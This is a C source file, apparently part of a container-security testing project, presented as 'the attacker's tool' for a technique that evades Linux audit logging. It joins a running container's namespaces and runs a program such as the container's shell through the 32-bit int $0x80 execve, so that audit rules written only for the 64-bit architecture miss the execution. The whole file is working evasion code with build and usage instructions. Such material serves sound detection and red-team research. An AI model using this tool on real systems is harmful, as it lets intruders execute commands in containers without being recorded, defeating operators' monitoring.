/*
 * compat-exec: the attacker's tool for the compat-syscall-exec technique.
 * Runs a program of a running container through the 32-bit system call
 * ABI: a 64-bit process that executes `int $0x80` makes an i386 system call
 * (the kernel's IA32 emulation, on by default on x86_64), and the audit
 * subsystem records it with arch=i386 and the i386 syscall number (execve
 * is 11, not 59). A kernel audit rule written for `arch=b64` does not match
 * it: the program runs unrecorded, although it is the container's own
 * /bin/sh.
 *
 * 1. enters the container's namespaces with setns(2) (ipc, uts, net, pid,
 *    mnt), the caller having joined its cgroups already, so the kernel sees
 *    a process of the container;
 * 2. forks (a pid namespace applies to children), and the child copies its
 *    arguments and PATH into static memory below 4 GiB (the i386 ABI passes
 *    32-bit pointers) and calls execve through `int $0x80`;
 * 3. the parent waits and exits with the child's status. A refused execve
 *    says why on stderr and exits 126.
 *
 * usage: compat-exec <container pid> <program in the container> [args...]
 * Build: gcc -static -O2 -o compat-exec compat-exec.c (x86_64 only; the
 * static executable is not position-independent, so its data is below 4 GiB)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "enter-container.h"

#if !defined(__x86_64__)
#error "compat-exec makes i386 system calls from x86_64"
#endif

/* arch/x86/entry/syscalls/syscall_32.tbl */
#define I386_EXECVE 11

/* The strings and the two NULL-terminated arrays of 32-bit pointers execve gets, in .bss (below 4 GiB). */
static char strings[1 << 16];
static uint32_t argv32[256];
static uint32_t envp32[2];

/* Appends s to strings; its 32-bit address, or 0 when it does not fit. */
static uint32_t keep(const char *s, size_t *used) {
  size_t n = strlen(s) + 1;
  if (*used + n > sizeof strings) return 0;
  memcpy(strings + *used, s, n);
  uint32_t at = (uint32_t)(uintptr_t)(strings + *used);
  *used += n;
  return at;
}

static int exec_i386(char **args) {
  if ((uintptr_t)strings > UINT32_MAX) {
    fprintf(stderr, "compat-exec: static data at %p is above 4 GiB (a position-independent build?)\n", (void *)strings);
    return 126;
  }
  size_t used = 0;
  size_t n = 0;
  for (; args[n]; n++) {
    if (n + 1 >= sizeof argv32 / sizeof argv32[0] || !(argv32[n] = keep(args[n], &used))) {
      fprintf(stderr, "compat-exec: too many or too long arguments\n");
      return 126;
    }
  }
  argv32[n] = 0;
  envp32[0] = keep("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", &used);
  envp32[1] = 0;
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"((long)I386_EXECVE), "b"(argv32[0]), "c"((uint32_t)(uintptr_t)argv32), "d"((uint32_t)(uintptr_t)envp32) : "memory");
  fprintf(stderr, "compat-exec: execve(%s) through int $0x80: %s\n", args[0], strerror((int)-ret));
  return 126;
}

static int run(void *args) { return exec_i386((char **)args); }

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: compat-exec <container pid> <program in the container> [args...]\n");
    return 2;
  }
  if (enter_container("compat-exec", argv[1]) != 0) return 1;
  return in_child("compat-exec", run, argv + 2);
}
